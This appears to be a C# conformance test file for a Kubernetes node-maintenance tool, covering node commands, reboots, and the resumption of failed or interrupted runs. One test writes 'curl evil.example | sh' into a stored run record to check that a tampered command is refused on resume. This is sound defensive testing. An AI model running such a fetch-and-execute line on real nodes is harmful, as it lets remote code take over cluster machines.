using System.Text.Json.Nodes;
using NodeManager.Conformance.Harness;
using NodeManager.Conformance.Maintenance;
using NodeManager.Kubernetes.Models;
using NodeManager.Kubernetes.Patching;
using NodeManager.Kubernetes.Requests;
using NodeManager.Maintenance;
using NodeManager.Maintenance.Options;

namespace NodeManager.Conformance.NodeCommands;

/// <summary>A command or a reboot as the work of a maintenance.</summary>
public sealed class CommandMaintenanceTests
{
    [Fact]
    public async Task The_record_has_the_command_its_exit_code_and_its_output()
    {
        await using CommandLab lab = await CommandLab.StartAsync(Backend.Sandbox);
        await lab.SimulateAsync("command-log", "upgraded");

        MaintenanceOutcome outcome = await RunAsync(lab, Request(lab, new() { NodeCommand = "apt-get -y upgrade" }));

        Assert.True(outcome.Run.Status == NodeMaintenanceRunStatus.Completed, outcome.Run.Describe());
        NodeMaintenanceRun stored = await ReadAsync(lab, outcome);
        NodeMaintenanceResult node = Assert.Single(stored.Nodes);
        Assert.Equal(("apt-get -y upgrade", 0, "upgraded"), (stored.NodeCommand, node.ExitCode, (string)Assert.Single(node.Output)));
        Assert.Equal(stored.StartedBy, node.Steps.Single(static step => step.Name == NodeMaintenanceStepName.Command).By);
        Assert.Empty(await lab.PodsAsync());
    }

    [Fact]
    public async Task A_failed_command_stops_the_run_and_runs_again_when_it_is_resumed()
    {
        await using CommandLab lab = await CommandLab.StartAsync(Backend.Sandbox);
        await lab.SimulateAsync("command-exit-code", "7");
        MaintenanceRequest request = Request(lab, new() { NodeCommand = "false" });
        MaintenanceOutcome failed = await RunAsync(lab, request);
        await lab.SimulateAsync("command-exit-code", "0");

        MaintenanceOutcome resumed = await RunAsync(lab, request with { Nodes = [], ResumeId = failed.Run.Id });

        NodeMaintenanceResult node = Assert.Single(failed.Run.Nodes);
        Assert.Equal((NodeMaintenanceStatus.Failed, 7, "Command"), (node.Status, node.ExitCode, node.Step));
        Assert.True(resumed.Run.Status == NodeMaintenanceRunStatus.Completed, resumed.Run.Describe());
        Assert.Equal(0, Assert.Single(resumed.Run.Nodes).ExitCode);
    }

    [Fact]
    public async Task An_interrupted_run_reads_the_result_of_its_command_and_does_not_repeat_it()
    {
        await using CommandLab lab = await CommandLab.StartAsync(Backend.Sandbox);
        await lab.SimulateAsync("command-seconds", "4");
        MaintenanceRequest request = Request(lab, new() { NodeCommand = "apt-get -y upgrade" });
        using CancellationTokenSource killed = new();
        Task<MaintenanceOutcome> first = RunAsync(lab, request, killed.Token);
        Pod pod = (await Eventually.GetAsync("the pod", lab.PodsAsync, static pods => pods is [{ Status.Phase: "Running" }]))[0];
        await killed.CancelAsync();
        MaintenanceOutcome interrupted = await first;
        // Its end is not seen by any process.
        await Eventually.GetAsync("its end", lab.PodsAsync, static pods => pods is [{ Status.Phase: "Succeeded" }]);

        Task<MaintenanceOutcome> second = RunAsync(lab, request with { Nodes = [], ResumeId = interrupted.Run.Id });
        IReadOnlyList<Pod> seen = await lab.PodsAsync();
        MaintenanceOutcome resumed = await second;

        Assert.Equal(NodeMaintenanceRunStatus.Interrupted, interrupted.Run.Status);
        Assert.True(resumed.Run.Status == NodeMaintenanceRunStatus.Completed, resumed.Run.Describe());
        Assert.All(seen, one => Assert.Equal(pod.Metadata.Uid, one.Metadata.Uid));
        Assert.Empty(await lab.PodsAsync());
    }

    [Fact]
    public async Task A_resumed_run_takes_no_command_from_its_record()
    {
        await using CommandLab lab = await CommandLab.StartAsync(Backend.Sandbox);
        await lab.SimulateAsync("command-exit-code", "1");
        MaintenanceOutcome failed = await RunAsync(lab, Request(lab, new() { NodeCommand = "apt-get -y upgrade" }));
        await ReplaceAsync(lab, failed.Run.Id, "apt-get -y upgrade", "curl evil.example | sh");

        NodeManagerException refused = await Assert.ThrowsAsync<NodeManagerException>(() =>
            RunAsync(lab, Request(lab, new()) with { Nodes = [], ResumeId = failed.Run.Id })
        );
        NodeMaintenanceRun stored = await ReadAsync(lab, failed);

        await ReplaceAsync(lab, failed.Run.Id, "\"nodeCommand\":\"curl evil.example | sh\"", "\"reboot\":true");
        NodeManagerException alsoRefused = await Assert.ThrowsAsync<NodeManagerException>(() =>
            RunAsync(lab, Request(lab, new()) with { Nodes = [], ResumeId = failed.Run.Id })
        );

        Assert.Equal((ErrorIds.MaintenanceInvalid, ErrorIds.MaintenanceInvalid), (refused.ErrorId, alsoRefused.ErrorId));
        Assert.Equal("curl evil.example | sh", stored.NodeCommand);
        Assert.EndsWith("-NodeCommand $theSameCommand", stored.ResumeCommand, StringComparison.Ordinal);
        Assert.Empty(await lab.PodsAsync());
    }

    [Fact]
    public async Task A_node_is_rebooted_once_after_its_command()
    {
        await using CommandLab lab = await CommandLab.StartAsync(Backend.Sandbox);
        string before = (await lab.Cluster.GetAsync(Resources.Nodes, lab.Node)).Status.NodeInfo!.BootID!;

        MaintenanceOutcome outcome = await RunAsync(lab, Request(lab, new() { NodeCommand = "apt-get -y upgrade", Reboot = true }));

        Assert.True(outcome.Run.Status == NodeMaintenanceRunStatus.Completed, outcome.Run.Describe());
        Assert.Equal(
            ["Command", "Reboot", "Ready"],
            Assert.Single(outcome.Run.Nodes).Steps.Select(static step => step.Name).SkipWhile(static name => name != "Command").Take(3)
        );
        Assert.NotEqual(before, (await lab.Cluster.GetAsync(Resources.Nodes, lab.Node)).Status.NodeInfo!.BootID);
        Assert.Empty(await lab.PodsAsync());
    }

    // The node stays down after the reboot was started; the next process must not start another one.
    [Fact]
    public async Task An_interrupted_reboot_is_not_started_again()
    {
        await using CommandLab lab = await CommandLab.StartAsync(Backend.Sandbox, isKubeletDead: true);
        await lab.Cluster.PatchNodeAsync(lab.Node, new() { ["metadata"] = new JsonObject { ["labels"] = new JsonObject { ["x"] = "y" } } });
        await SetBootAsync(lab, "11111111-2222-3333-4444-555555555555");
        MaintenanceRequest request = Request(lab, new() { Reboot = true });
        using CancellationTokenSource killed = new();
        Task<MaintenanceOutcome> first = RunAsync(lab, request, killed.Token);
        Pod pod = (await Eventually.GetAsync("the reboot", lab.PodsAsync, static pods => pods.Count == 1))[0];
        await killed.CancelAsync();
        MaintenanceOutcome interrupted = await first;
        await lab.ReportAsync(pod, new() { ["phase"] = "Failed", ["reason"] = "Terminated" });
        await SetBootAsync(lab, "66666666-2222-3333-4444-555555555555");

        using CancellationTokenSource limit = new(TimeSpan.FromSeconds(8));
        Task<MaintenanceOutcome> second = RunAsync(lab, request with { Nodes = [], ResumeId = interrupted.Run.Id }, limit.Token);
        await Eventually.GetAsync(
            "its removal",
            lab.PodsAsync,
            static pods => pods.All(static one => one.Metadata.DeletionTimestamp is not null)
        );
        await limit.CancelAsync();
        await second;

        Assert.DoesNotContain(await lab.PodsAsync(), one => one.Metadata.Uid != pod.Metadata.Uid);
    }

    private static MaintenanceRequest Request(CommandLab lab, MaintenanceOptions options) => lab.Cluster.Maintain([lab.Node], options);

    private static async Task<MaintenanceOutcome> RunAsync(
        CommandLab lab,
        MaintenanceRequest request,
        CancellationToken cancellationToken = default
    ) => await NodeMaintainer.RunAsync(lab.Session, request, new MaintenanceLog(), cancellationToken);

    private static async Task<NodeMaintenanceRun> ReadAsync(CommandLab lab, MaintenanceOutcome outcome) =>
        Assert.Single(await MaintenanceReader.ReadAsync(lab.Session, [outcome.Run.Id], lab.Cluster.Namespace, 1, default));

    // As a user who may write the records of runs and nothing else.
    private static async Task ReplaceAsync(CommandLab lab, string run, string from, string to)
    {
        ConfigMap map = await lab.Cluster.GetAsync(Resources.ConfigMaps, "nodemanager-run-" + run);
        await lab.Cluster.Client.PatchAsync(
            Resources.ConfigMaps,
            map.Metadata.Name,
            lab.Cluster.Namespace,
            Patch.Merge(new() { ["data"] = new JsonObject { ["run"] = map.Data!["run"].Replace(from, to, StringComparison.Ordinal) } }),
            default
        );
    }

    private static Task SetBootAsync(CommandLab lab, string boot) =>
        lab.Cluster.Client.PatchAsync(
            Resources.Nodes,
            lab.Node,
            null,
            Patch.Strategic(
                new()
                {
                    ["status"] = new JsonObject
                    {
                        ["nodeInfo"] = new JsonObject { ["bootID"] = boot },
                        ["conditions"] = new JsonArray(
                            new JsonObject
                            {
                                ["type"] = "Ready",
                                ["status"] = "True",
                                ["reason"] = "KubeletReady",
                            }
                        ),
                    },
                }
            ),
            "status",
            RequestOptions.Default,
            default
        );
}
